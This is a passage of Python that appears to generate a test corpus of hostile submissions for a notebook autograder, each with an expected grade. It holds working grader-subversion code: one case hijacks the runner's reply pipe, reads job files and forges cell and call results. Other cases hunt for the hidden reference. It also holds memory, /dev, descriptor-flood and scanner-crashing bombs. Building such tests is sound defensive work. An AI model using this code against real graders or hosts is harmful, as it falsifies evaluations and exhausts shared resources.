    if callable(_value) and _name in _probe and _name not in _found and _works(_value, _name):
        _found[_name] = _value
globals().update(_found)
print("found", sorted(_found))
"""

CASES += [
    Case(
        "carries_the_reference_out",
        "the feedback run forges a death whose cell index carries the reference's source, for the judge's run",
        _blank_then(_CARRY_THE_REFERENCE, 0),
        ZERO,
        review=True,
    ),
    Case(
        "forges_the_steps",
        "answers every step the grader could hand out, cells and calls, and writes lines too long and too deep",
        _preamble(_FORGE_THE_STEPS),
        ZERO,
        review=True,
    ),
    Case(
        "hunts_the_reference",
        "looks for a working reference in sys.modules, the garbage collector, the builtins and every readable file",
        _blank_extra_cell(_HUNT_THE_REFERENCE, 2),
        ZERO,
        review=True,
    ),
]


# Backward passes by central differences of rnn_ref's forwards (imported by the notebook), one entry at a time.
_FD_OF_THE_REFERENCE = (
    '''def lstm_step_backward(dh, dc, cache):
    """Every gradient by central differences of rnn_ref's lstm_step_forward."""
    inputs = {"x": cache.x, "h_prev": cache.h_prev, "c_prev": cache.c_prev, **cache.params}
    inputs = {key: np.asarray(value, dtype=np.float64) for key, value in inputs.items()}
    dh64, dc64 = dh.astype(np.float64), dc.astype(np.float64)

    def loss_of(name):
        def loss(value):
            p = dict(inputs, **{name: value})
            h, c, _ = lstm_step_forward(p["x"], p["h_prev"], p["c_prev"], {k: p[k] for k in ("W_x", "W_h", "b")})
            return np.sum(dh64 * h) + np.sum(dc64 * c)

        return loss

    g = {key: gradcheck.numerical_gradient(loss_of(key), value).astype(dh.dtype) for key, value in inputs.items()}
    return g["x"], g["h_prev"], g["c_prev"], {key: g[key] for key in ("W_x", "W_h", "b")}''',
    '''def lstm_backward(dhs, cache, dh_last=None, dc_last=None):
    """Every gradient by central differences of rnn_ref's lstm_forward."""
    inputs = {"xs": cache.xs, "h0": cache.h_all[0], "c0": cache.c_all[0], **cache.params}
    inputs = {key: np.asarray(value, dtype=np.float64) for key, value in inputs.items()}
    dhs64 = dhs.astype(np.float64)
    dh64 = np.zeros_like(inputs["h0"]) if dh_last is None else dh_last.astype(np.float64)
    dc64 = np.zeros_like(inputs["c0"]) if dc_last is None else dc_last.astype(np.float64)

    def loss_of(name):
        def loss(value):
            p = dict(inputs, **{name: value})
            hs, h, c, _ = lstm_forward(p["xs"], p["h0"], p["c0"], {k: p[k] for k in ("W_x", "W_h", "b")})
            return np.sum(dhs64 * hs) + np.sum(dh64 * h) + np.sum(dc64 * c)

        return loss

    g = {key: gradcheck.numerical_gradient(loss_of(key), value).astype(dhs.dtype) for key, value in inputs.items()}
    return g["xs"], g["h0"], g["c0"], {key: g[key] for key in ("W_x", "W_h", "b")}''',
)

# Backward passes by central differences of the student's own forward, vectorized: a chunk of perturbed
# copies of every input goes through one batched forward pass (a leading axis of copies).
_FD_BATCHED = '''import numpy as np


def _batched_gradient(losses, inputs, chunk=64, eps=1e-6):
    """Central differences of ``losses`` (K stacked inputs -> K losses), ``chunk`` entries at a time."""
    names = list(inputs)
    theta = np.concatenate([inputs[k].ravel() for k in names])
    sizes = np.cumsum([0] + [inputs[k].size for k in names])
    grad = np.empty_like(theta)

    def unpack(thetas):
        return {k: thetas[:, sizes[i] : sizes[i + 1]].reshape((-1,) + inputs[k].shape) for i, k in enumerate(names)}

    for start in range(0, theta.size, chunk):
        stop = min(start + chunk, theta.size)
        plus = np.repeat(theta[None], stop - start, axis=0)
        minus = plus.copy()
        rows = np.arange(stop - start)
        plus[rows, start + rows] += eps
        minus[rows, start + rows] -= eps
        grad[start:stop] = (losses(unpack(plus)) - losses(unpack(minus))) / (2 * eps)
    return {k: grad[sizes[i] : sizes[i + 1]].reshape(inputs[k].shape) for i, k in enumerate(names)}


def _steps(x, h, c, W_x, W_h, b):
    """One LSTM step for K copies at once: x (K, N, D), h and c (K, N, H), W_x (K, 4H, D), ..."""
    H = h.shape[-1]
    a = np.einsum("knd,kgd->kng", x, W_x) + np.einsum("knj,kgj->kng", h, W_h) + b[:, None, :]
    i, f, o = (1 / (1 + np.exp(-a[..., k * H : (k + 1) * H])) for k in (0, 1, 3))
    c = f * c + i * np.tanh(a[..., 2 * H : 3 * H])
    return o * np.tanh(c), c'''
_FD_OF_OWN_FORWARD = (
    _FD_BATCHED
    + '''


def lstm_step_backward(dh, dc, cache):
    """Every gradient by batched central differences of my own forward."""
    inputs = {"x": cache.x, "h_prev": cache.h_prev, "c_prev": cache.c_prev, **cache.params}
    inputs = {key: np.asarray(value, dtype=np.float64) for key, value in inputs.items()}

    def losses(p):
        h, c = _steps(p["x"], p["h_prev"], p["c_prev"], p["W_x"], p["W_h"], p["b"])
        return np.sum(dh * h, axis=(1, 2)) + np.sum(dc * c, axis=(1, 2))

    g = {key: value.astype(dh.dtype) for key, value in _batched_gradient(losses, inputs).items()}
    return g["x"], g["h_prev"], g["c_prev"], {key: g[key] for key in ("W_x", "W_h", "b")}''',
    '''def lstm_backward(dhs, cache, dh_last=None, dc_last=None):
    """Every gradient by batched central differences of my own forward."""
    inputs = {"xs": cache.xs, "h0": cache.h_all[0], "c0": cache.c_all[0], **cache.params}
    inputs = {key: np.asarray(value, dtype=np.float64) for key, value in inputs.items()}
    dh_last = np.zeros_like(inputs["h0"]) if dh_last is None else dh_last
    dc_last = np.zeros_like(inputs["c0"]) if dc_last is None else dc_last

    def losses(p):
        h, c, total = p["h0"], p["c0"], 0.0
        for t in range(p["xs"].shape[1]):
            h, c = _steps(p["xs"][:, t], h, c, p["W_x"], p["W_h"], p["b"])
            total = total + np.sum(dhs[t] * h, axis=(1, 2))
        return total + np.sum(dh_last * h, axis=(1, 2)) + np.sum(dc_last * c, axis=(1, 2))

    g = {key: value.astype(dhs.dtype) for key, value in _batched_gradient(losses, inputs).items()}
    return g["xs"], g["h0"], g["c0"], {key: g[key] for key in ("W_x", "W_h", "b")}''',
)

# Takes the runner's place: blinds it (its reply pipe now never speaks), reads the grader's steps itself, says
# every cell ran, and answers every call by central differences of the reference, the timed one too.
_TAKES_OVER_THE_RUNNER = (
    _FD_OF_THE_REFERENCE[0]
    + """


import json, os, threading


def _flag(flag):
    argv = open("/proc/self/cmdline", "rb").read().split(b"\\0")
    return int(argv[argv.index(flag) + 1]) if flag in argv else None


def _take_over(events, replies):
    from sandboxed import wire  # the runner's own module: its folder is on sys.path

    functions = [globals()[item["name"]] for item in json.load(open("/job/job.json"))["items"]]
    buffer = b""
    while True:
        while b"\\n" not in buffer:
            chunk = os.read(replies, 1 << 20)
            if not chunk:
                return
            buffer += chunk
        line, _, buffer = buffer.partition(b"\\n")
        step = json.loads(line)
        if step.get("do") == "cell":
            answer = {"event": "cell_done", "step": step["step"], "error": None, "skipped": 0}
        elif step.get("do") == "call":
            args, kwargs = wire.decode(step["args"]), wire.decode(step["kwargs"])
            outputs = functions[step["item"]](*args, **kwargs)
            answer = {"event": "result", "step": step["step"], "defined": True, "outputs": wire.encode(outputs)}
        else:
            return
        os.write(events, (json.dumps(answer) + "\\n").encode())
""",
    _FD_OF_THE_REFERENCE[1]
    + """


_events, _replies = _flag(b"--fd"), _flag(b"--reply-fd")
if _replies is not None:  # the judge's run: from the next step on, the grader talks to _take_over only
    _mine = os.dup(_replies)
    _silent, _ = os.pipe()
    os.dup2(_silent, _replies)
    threading.Thread(target=_take_over, args=(_events, _mine), daemon=True).start()""",
)

# A backward pass by PyTorch's automatic differentiation (installed beside the grader, as a test oracle here).
_AUTODIFF = (
    '''def lstm_step_backward(dh, dc, cache):
    """Gradients by torch.autograd, through a forward written in torch."""
    import torch

    inputs = {"x": cache.x, "h_prev": cache.h_prev, "c_prev": cache.c_prev, **cache.params}
    t = {k: torch.tensor(np.asarray(v, dtype=np.float64), requires_grad=True) for k, v in inputs.items()}
    H = t["h_prev"].shape[1]
    a = t["x"] @ t["W_x"].T + t["h_prev"] @ t["W_h"].T + t["b"]
    i, f, o = (torch.sigmoid(a[:, k * H : (k + 1) * H]) for k in (0, 1, 3))
    c = f * t["c_prev"] + i * torch.tanh(a[:, 2 * H : 3 * H])
    h = o * torch.tanh(c)
    loss = (h * torch.tensor(dh.astype(np.float64))).sum() + (c * torch.tensor(dc.astype(np.float64))).sum()
    loss.backward()
    g = {k: v.grad.numpy().astype(dh.dtype) for k, v in t.items()}
    return g["x"], g["h_prev"], g["c_prev"], {k: g[k] for k in ("W_x", "W_h", "b")}''',
    "",
)


def _lstm_gates(step_backward, backward):
    """A maker: the two solution cells of 08_lstm_gates replaced (its setup imports gradcheck and the forwards)."""
    return _replace_solutions([step_backward, backward])


def _slow_on_the_timed_case(kit):
    """Right, but the step sleeps 4 s on a large batch: longer than the budget, shorter than the kill."""
    notebook = kit.honest()
    cell = kit.solution(notebook, 0)
    cell.source = "import time\n\n" + cell.source.replace(
        "    H = dh.shape[1]\n", "    H = dh.shape[1]\n    if dh.shape[0] >= 64:\n        time.sleep(4)\n", 1
    )
    assert "time.sleep" in cell.source
    kit.write(notebook)


def _own_work_loops(kit):
    from hostile.variants import VARIANTS, make

    kit.write(make(kit, next(v for v in VARIANTS if v.name == "loops_over_batch_and_time")))


OWN_WORK_ASSIGNMENT = "08_lstm_gates"
OWN_WORK_CASES = [
    Case("own_work_correct", "every function right", _honest, (1, 1), honest=True),
    Case("own_work_blank", "the release as handed out", _blank, (0, 0), honest=True),
    Case("own_work_loops", "right, with loops over the batch and over time", _own_work_loops, (1, 1), honest=True),
    Case(
        "fd_of_the_reference",
        "central differences of rnn_ref's forwards, one entry at a time",
        _lstm_gates(*_FD_OF_THE_REFERENCE),
        (0, 0),
    ),
    Case(
        "fd_of_own_forward",
        "batched central differences of a forward of its own",
        _lstm_gates(*_FD_OF_OWN_FORWARD),
        (0, 0),
    ),
    Case(
        "takes_over_the_runner",
        "blinds the runner and answers the grader's steps itself, by central differences",
        _lstm_gates(*_TAKES_OVER_THE_RUNNER),
        (0, 0),
        review=True,
    ),
    Case("autodiff", "torch.autograd through a forward written in torch", _lstm_gates(*_AUTODIFF), (0, 0)),
    Case("slow_on_the_timed_case", "right, but sleeps 4 s when the batch is large", _slow_on_the_timed_case, (0, 1)),
]


# --- Area B (issue 10): bounded cost outside the sandbox -----------------------------------------------------
# Sleepers, memory held outside the address space (memfd, System V, /dev), crafted cells for the static scan,
# output floods.  Graded in the same batch as honest_correct (full marks) and honest_blank (zero).
# ``SLEEP`` is just under the corpus's cell limit (tight_limits: 6 s a cell or call).

SLEEP = 5


def _sleeps_everywhere(kit):
    """Correct, but every solution cell and every call sleeps just under the cell limit: no run can finish."""
    notebook = kit.honest()
    for number in range(len(kit.solution_ids)):
        cell = kit.solution(notebook, number)
        body = cell.source.replace('    """\n', f'    """\n    time.sleep({SLEEP})\n', 1)
        assert body != cell.source, "a solution without a docstring"
        cell.source = f"import time\n\ntime.sleep({SLEEP})\n\n" + body
    kit.write(notebook)


MEMFD_BOMB = """import os
held, refused = 0, []
for _ in range(64):  # 2 GB in anonymous files, 32 MB each: none of it in the address space
    try:
        fd = os.memfd_create('hold')
        os.write(fd, b'x' * 2**25)
        held += 32
    except OSError as error:
        refused.append(error.errno)
        break
print(held, 'MB held outside the address space; refused:', refused)"""

SYSV_BOMB = """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
held = 0
for _ in range(64):  # System V segments outlive shmdt: 2 GB held, 32 MB mapped at a time
    segment = libc.shmget(0, 2**25, 0o1000 | 0o600)
    if segment < 0:
        print('shmget refused, errno', ctypes.get_errno())
        break
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 1, 2**25)
    libc.shmdt(ctypes.c_void_p(address))
    held += 32
queue = libc.msgget(0, 0o1000 | 0o600)
print(held, 'MB of shared memory held; msgget:', queue, ctypes.get_errno())"""

DEV_BOMB = """for path in ['/dev/shm/fill', '/dev/fill', '/dev/mqueue/fill']:
    try:
        with open(path, 'wb') as f:
            for _ in range(64):
                f.write(b'x' * 2**24)
        print('WROTE', path)
    except OSError as error:
        print('refused', path, error.errno)"""

NEWLINE_FLOOD = """import os
for fd in range(1, 30):  # empty lines on every descriptor: cheap to write, each one a line to read
    try:
        for _ in range(200):
            os.write(fd, b'\\n' * 2**20)
    except OSError:
        pass"""

AREA_B_CASES = [
    Case(
        "sleeper",
        "sleeps just under the cell limit in every solution cell and in every call",
        _sleeps_everywhere,
        ZERO,
        review=True,
        reason="time budget",
    ),
    Case("memfd_bomb", "holds 2 GB in memfd files, in a cell of its own", _extra_cell(MEMFD_BOMB), FULL, review=True),
    Case(
        "sysv_bomb",
        "holds 2 GB in System V shared memory and message queues, in a cell of its own",
        _extra_cell(SYSV_BOMB),
        FULL,
        review=True,
    ),
    Case("dev_bomb", "fills /dev/shm and /dev, in a cell of its own", _extra_cell(DEV_BOMB), FULL, review=True),
    Case(
        "scan_magic_bomb",
        "a cell of its own of 77 KB of IPython magics (IPython re-reads the cell for each: the audit's 79 s)",
        _extra_cell("%time pass\n" * 7000),
        FULL,
        review=True,
    ),
    Case(
        "scan_deep_bomb",
        "a cell of its own nested 40000 levels deep (a recursive reader crashes on it)",
        _extra_cell("x = " + "-" * 40_000 + "1"),
        FULL,
        review=True,
    ),
    Case(
        "scan_chain_bomb",
        "a cell of its own assigning an attribute chain 10000 long",
        _extra_cell("a" + ".b" * 10_000 + " = 1", after=1),
        FULL,
        review=True,
    ),
    Case(
        "newline_flood",
        "writes 200 MB of empty lines on every descriptor, in a cell of its own",
        _extra_cell(NEWLINE_FLOOD),
        FULL,
        review=True,
        reason="more than",
    ),
]
CASES += AREA_B_CASES


def write_corpus(course, assignment, cases=CASES):
    """Write every case into ``course/submitted/<case>/<assignment>``; return the cases."""
    kit = Kit.load(course, assignment)
    for case in cases:
        kit.folder = Path(course) / "submitted" / case.name / assignment
        case.make(kit)
    return cases


if __name__ == "__main__":
    course_dir, assignment_name = sys.argv[1:3]
    for written in write_corpus(course_dir, assignment_name):
        print(f"{written.name:20s} {written.what}")
